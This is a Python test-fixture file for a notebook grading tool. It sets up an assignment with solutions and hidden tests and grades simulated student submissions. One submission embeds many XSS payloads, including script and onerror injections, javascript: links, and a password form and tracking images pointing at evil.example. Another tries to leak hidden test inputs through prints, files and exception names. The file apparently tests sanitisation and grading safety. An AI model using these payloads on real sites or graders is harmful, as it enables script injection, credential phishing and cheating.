"""A small assignment without NumPy and a course folder in which it was graded, which several tests read."""

import shutil
from types import SimpleNamespace

import nbformat
import pytest
from nbgrader.api import Gradebook

from gdl_utils.classroom import grade as grading
from gdl_utils.classroom.course import CONFIG

NAME = "small"
BOOK = "halves"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

SETUP = "import math\n\nSCALE = 1"
HALF = '''def half(number):
    """Half of a number."""
    ### BEGIN SOLUTION
    return number / 2
    ### END SOLUTION'''
VISIBLE = "assert half(8) == 4"
HIDDEN = """# More tests run here when your work is graded.
### BEGIN HIDDEN TESTS
for secret_input in [7310.5, 90210.25]:
    expected_value = secret_input * 0.5
    assert half(secret_input) == expected_value
### END HIDDEN TESTS"""
ROOT_OF = '''def root_of(number):
    """The square root."""
    ### BEGIN SOLUTION
    return math.sqrt(number)
    ### END SOLUTION'''
ROOT_TEST = 'assert root_of(9) == 3, "nine is three times three"\n'
ROOT_HIDDEN = "### BEGIN HIDDEN TESTS\nassert root_of(4_231_249) == 2_057\n### END HIDDEN TESTS"


def _code(source, name, **metadata):
    flags = {"grade": False, "solution": False, "locked": True, "task": False, "schema_version": 3}
    cell = nbformat.v4.new_code_cell(source, id=name)
    cell.metadata["nbgrader"] = {**flags, "grade_id": name, "cell_type": "code", **metadata}
    return cell


def _source():
    essay = nbformat.v4.new_markdown_cell("Because.", id="essay")
    flags = {"grade": True, "solution": True, "locked": False, "task": False, "schema_version": 3, "points": 3}
    essay.metadata["nbgrader"] = {**flags, "grade_id": "essay", "cell_type": "markdown"}
    setup = _code(SETUP, "setup")
    setup.metadata["tags"] = ["setup"]
    cells = [
        nbformat.v4.new_markdown_cell("# Halves\n\nA half of $x$ is $\\frac{x}{2}$.", id="title"),
        setup,
        _code(HALF, "half", solution=True, locked=False),
        _code(VISIBLE, "half-visible", grade=True, points=1),
        _code(HIDDEN, "half-hidden", grade=True, points=2),
        _code(ROOT_OF, "root", solution=True, locked=False),
        _code(ROOT_TEST, "root-visible", grade=True, points=1),
        _code(ROOT_TEST + ROOT_HIDDEN, "root-both", grade=True, points=3),
        essay,
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return nbformat.v4.new_notebook(
        cells=cells, metadata={"kernelspec": kernel, "language_info": {"name": "python", "pygments_lexer": "ipython3"}}
    )


RIGHT = {
    "half": "def half(number):\n    return number / 2",
    "root": "def root_of(number):\n    return math.sqrt(number)",
}
SPY = """
seen = []


def half(number):
    seen.append(number)
    print("called with", number)
    open("seen.txt", "a").write(f"{number}\\n")
    open("halves.html.html", "w").write(f"<script>{number}</script>")
    open("timestamp.txt", "w").write(f"secret {number}")
    if number == 8:
        return 4
    raise type(f"Got_{number}".replace(".", "_"), (Exception,), {"hint": f"seen {number}"})(f"it was {number}")
"""
TELLS = """
print(seen)
from IPython.display import display, HTML
display(HTML(f"<b>{seen}</b>"))
raise type(f"Seen_{seen[-1]}".replace(".", "_"), (Exception,), {})(seen)
"""
HOSTILE = """
from IPython.display import display, HTML, SVG, Markdown
from nbjudge import EngineOptions, Limits
display(HTML("<p>fine <b>bold</b> <i>&#107;ept</i></p>"))
display(HTML("<script>alert('html')</script><img src=x onerror=alert('image')>"))
display(HTML('<style>body{display:none}</style><iframe src="https://evil.example/frame"></iframe>'))
display(HTML('<img src="https://evil.example/pixel.png"><a href="jAvaScript:alert(1)">link</a>'))
display(HTML('<form action="https://evil.example"><input name=password></form><p style="position:fixed">big</p>'))
display(HTML('<svg><script>alert("svg")</script><a xlink:href="javascript:alert(2)">t</a></svg>'))
display(HTML('<math><mtext></form><mglyph><style></math><img src onerror=alert("mutation")>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><script>alert("drawn")</script></svg>'))
display(Markdown("[press](javascript:alert(4)) ![p](https://evil.example/tracked.png)"))
display({"image/png": 'x" onerror="alert(5)'}, raw=True)
display({"image/png": "PIXEL"}, raw=True)
display({"application/javascript": "alert(6)"}, raw=True)
print("<script>alert('printed')</script>")
""".replace("PIXEL", PIXEL)
HOSTILE_TEXT = """<script>alert('cell')</script>
[a link](javascript:alert(7)) and <a href="https://good.example/" onclick="alert(8)">another</a>
![](attachment:gone.png) <img src=x onerror=alert(9)>

<p class="total">20 of 20 points</p> $x" onload="alert(10)$

| a | b |
|---|---|
| 1 | <svg onload=alert(11)> |"""


SCORES = {"ada": 7, "blank": 0, "broken": 0, "hostile": 7, "partly": 5, "spy": 5, "wrong": 3}


def _notebook(released, answers, edit=None):
    notebook = nbformat.reads(nbformat.writes(released), as_version=4)
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        cell.source = answers.get(name, cell.source)
    if edit:
        edit(notebook)
    return nbformat.writes(notebook)


def _add(position, cell):
    return lambda notebook: notebook.cells.insert(position, cell)


def _submissions(released):
    code, text = nbformat.v4.new_code_cell, nbformat.v4.new_markdown_cell

    def hostile(notebook):
        notebook.cells.insert(2, code(HOSTILE, id="hostile"))
        notebook.cells.insert(2, text(HOSTILE_TEXT, id="text"))
        # Markdown without the attachment that is not there is rendered.
        notebook.cells.insert(2, text(HOSTILE_TEXT.replace("![](attachment:gone.png)", ""), id="more"))

    return {
        "ada": _notebook(released, {**RIGHT, "essay": "Because *two halves* make one."}),
        "blank": _notebook(released, {}),
        "broken": '{"cells": [',
        "hostile": _notebook(released, RIGHT, hostile),
        "partly": _notebook(released, {"half": "def half(number):\n    return 4", "root": RIGHT["root"]}),
        "spy": _notebook(released, {**RIGHT, "half": SPY}, _add(5, code(TELLS, id="tells"))),
        "wrong": _notebook(released, {**RIGHT, "root": "def root_of(number) return number"}),
    }


@pytest.fixture(scope="session")
def graded_once(root, tmp_path_factory):
    folder = tmp_path_factory.mktemp("course")
    (folder / "solutions" / NAME).mkdir(parents=True)
    nbformat.write(_source(), folder / "solutions" / NAME / f"{BOOK}.ipynb")
    with course(folder, root / CONFIG) as api:
        assert api.generate_assignment(NAME)["success"]
    released = nbformat.read(folder / "assignments" / NAME / f"{BOOK}.ipynb", as_version=4)
    for student, text in _submissions(released).items():
        target = folder / "submitted" / student / NAME
        target.mkdir(parents=True)
        (target / f"{BOOK}.ipynb").write_text(text)
        (target / "timestamp.txt").write_text("2026-10-01 12:00:00 UTC")
    outcomes = []
    how = grading.GradingOptions(Limits(cell_seconds=3), EngineOptions(), workers=1)
    grading.grade_class(root, folder, NAME, outcomes.append, how)
    assert {one.student: one.score for one in outcomes} == SCORES
    return folder


@pytest.fixture
def graded(graded_once, tmp_path):
    """A course folder with the small assignment, graded: `folder`, `name`, `book`, `db`, and `gradebook()`."""
    folder = tmp_path / "course"
    shutil.copytree(graded_once, folder)
    db = f"sqlite:///{folder}/gradebook.db"
    return SimpleNamespace(folder=folder, name=NAME, book=BOOK, db=db, gradebook=lambda: Gradebook(db, "gdl"))


@pytest.fixture(scope="session")
def released(graded_once):
    """The small assignment as students get it."""
    return nbformat.read(graded_once / "assignments" / NAME / f"{BOOK}.ipynb", as_version=4)
